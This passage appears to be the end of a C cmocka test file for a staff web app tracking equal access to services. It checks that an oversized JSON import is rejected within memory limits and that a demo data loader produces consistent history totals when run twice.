    staff_login(&c, "fi");
    char *tok = fetch_csrf(&c, "/fi/staff/equal-access/import");
    buf b = BUF_INIT;
    buf_putc(&b, '[');
    for (int i = 0; i < 8000; i++) buf_puts(&b, i ? ",1" : "1");
    buf_putc(&b, ']');
    tresp r;
    post_file(&c, "/fi/staff/equal-access/import", tok, "ptv.json", b.data, &r);
    buf_free(&b);
    assert_int_equal(r.status, 400);
    assert_true(body_has(&r, "Tiedostossa on yli 5000 palvelua. Tuo ne osissa."));
    assert_true(body_has(&r, "Mitään ei tallennettu."));
    tresp_free(&r);
    server_is_healthy(&c);
    assert_true(server_peak_mb() < 256);
    free(tok);
    tclient_free(&c);
}

/* The demo loader adds a standard where none is set and history that ends at
 * the offer as it stands, so the month-by-month count ends at the matrix's. */
static void demo_loader_is_consistent_and_safe_twice(void **state)
{
    (void)state;
    int64_t before = scalar("SELECT COUNT(*) FROM offer_history", NULL);
    char err[256];
    for (int i = 0; i < 2; i++) {
        db *d = testsrv_db(&srv);
        assert_int_equal(equality_demo_load(d, err, sizeof err), 0);
        db_close(d);
    }
    assert_int_equal(scalar("SELECT COUNT(*) FROM services s WHERE NOT EXISTS "
                            "(SELECT 1 FROM service_standards st WHERE st.service_id = s.id)", NULL), 0);
    int64_t after = scalar("SELECT COUNT(*) FROM offer_history", NULL);
    assert_true(after > before);
    assert_int_equal(scalar("SELECT COUNT(*) FROM offer_history h JOIN service_offers o ON o.service_id = h.service_id "
                            "AND o.point_id = h.point_id WHERE h.new_level <> o.level", NULL), 0);
    tclient c;
    tclient_init(&c, &srv);
    staff_login(&c, "sv");
    tresp r;
    http_get(&c, "/sv/staff/equal-access", NULL, &r);
    assert_int_equal(r.status, 200);
    long missing = total(&r, "total-missing"), below = total(&r, "total-below"), nosv = total(&r, "total-no-sv");
    long cells = total(&r, "total-cells"), ok = total(&r, "total-ok");
    tresp_free(&r);
    http_get(&c, "/sv/staff/equal-access/history", NULL, &r);
    assert_int_equal(r.status, 200);
    char last[160];
    snprintf(last, sizeof last, "<td>%ld</td><td>%ld</td><td>%ld</td><td>%ld</td></tr>\n  </tbody>", missing, below,
             nosv, cells - ok);
    assert_true(body_has(&r, last));
    tresp_free(&r);
    tclient_free(&c);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(matrix_counts_and_marks),
        cmocka_unit_test(csv_matches_the_table),
        cmocka_unit_test(xlsx_has_the_same_numbers),
        cmocka_unit_test(offer_edit_writes_history),
        cmocka_unit_test(import_good_file_twice),
        cmocka_unit_test(import_bad_files_store_nothing),
        cmocka_unit_test(import_field_of_a_wrong_type_names_the_record),
        cmocka_unit_test(import_of_a_huge_list_is_bounded),
        cmocka_unit_test(demo_loader_is_consistent_and_safe_twice),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
